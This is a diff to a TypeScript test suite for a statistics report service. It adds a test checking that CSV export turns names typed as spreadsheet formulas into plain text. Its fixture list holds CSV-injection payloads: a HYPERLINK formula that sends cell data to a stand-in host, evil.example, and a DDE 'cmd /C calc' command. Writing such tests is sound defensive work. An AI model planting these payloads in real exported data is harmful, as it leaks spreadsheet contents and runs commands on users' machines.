@@ -416,6 +416,32 @@ for (const kind of storeKinds) {
       assert.deepEqual(cells.at(-1)!.slice(0, 3), ['Tổng cộng / Total', '', String(RECORDS)]);
     });
 
+    test('CSV: a name an agency typed as a spreadsheet formula is written as text, not run (CSV injection)', async () => {
+      const report = await statistics(h.store, { from, to, groupBy: ['consumerSystem'] });
+      const hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Bấm đây")',
+        '@SUM(1+1)*cmd|" /C calc"!A0',
+        '+1+1',
+        '-2+3',
+        '\t=1+1',
+        '\r=1+1',
+      ];
+      const edited: Statistics = {
+        ...report,
+        rows: hostile.map((name, i) => ({
+          ...report.rows[i % report.rows.length]!,
+          label: { consumerSystem: name },
+        })),
+      };
+      const cells = parse(statisticsCsv(edited), { bom: true }) as string[][];
+      hostile.forEach((name, i) => {
+        assert.equal(cells[i + 1]![0], `'${name}`);
+      });
+      // Numbers stay numbers, and an ordinary name is untouched.
+      assert.equal(cells[1]![1], String(edited.rows[0]!.calls));
+      assert.equal(cells.at(-1)![0], 'Tổng cộng / Total');
+    });
+
     test('API: JSON, CSV and XLSX downloads; an agency user sees only its organization', async () => {
       const base = `/api/v1/reports/statistics?from=${from}&to=${to}`;
       const json = await h.call('GET', `${base}&groupBy=consumerOrganization,service`);
